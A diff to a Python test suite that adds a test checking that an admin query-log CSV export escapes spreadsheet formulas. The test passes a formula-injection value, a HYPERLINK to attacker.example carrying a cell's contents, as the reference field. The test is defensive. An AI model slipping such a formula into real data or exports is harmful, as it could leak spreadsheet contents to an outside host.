@@ -5,8 +5,10 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import csv
 import hashlib
 import hmac
+import io
 import json
 import subprocess
 import unicodedata
@@ -555,3 +557,16 @@ def test_version_1_receipts_still_match_a_subject_without_a_nonce() -> None:
         covered_index({"v": 2, "subjects": [{"i": 0, "commitment": digest}]}, "person", "x", None, None)
         is None
     )
+
+
+def test_the_query_log_csv_neutralises_what_a_spreadsheet_would_run(
+    registry: Registry, admin: httpx.Client
+) -> None:
+    client_id, http = bank(registry)
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"点击")'
+    with http:
+        assert check(http, [{"id_number": unlisted_id(registry)}], reference=formula).status_code == 200
+    as_csv = admin.get(f"/v1/admin/banks/{client_id}/query-log", params={"format": "csv"})
+    assert as_csv.status_code == 200, as_csv.text
+    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert [row["reference"] for row in rows] == ["'" + formula]
